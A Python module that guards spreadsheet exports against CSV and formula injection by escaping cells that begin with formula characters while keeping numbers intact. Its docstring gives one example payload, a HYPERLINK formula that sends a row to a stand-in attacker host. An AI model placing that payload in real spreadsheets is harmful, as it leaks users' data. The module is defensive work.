"""Every spreadsheet export's cells pass through here: CSV (and formula) injection (OWASP).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?x="&A1,
"Click")`` sends the row away when clicked). Such a cell gets a leading apostrophe, which the
spreadsheet shows as text and hides. A plain number (``-12.50``, a credit's amount) is left as
it is: it is not a formula and must stay a number.

``csv_lines`` is the one CSV writer of the project (a test keeps it that way); an XLSX export,
when one is added, writes its cells through ``safe_cell`` too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: Any) -> Any:
    """The value to write in a cell: text that a spreadsheet would run as a formula gets a
    leading apostrophe; other values are returned as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return f"'{value}"
    return value


class _Echo:
    """A file-like object whose ``write`` returns the line, for streaming responses."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The rows as CSV lines (for a ``StreamingHttpResponse`` or a file), every cell through
    ``safe_cell``."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([safe_cell(value) for value in row])
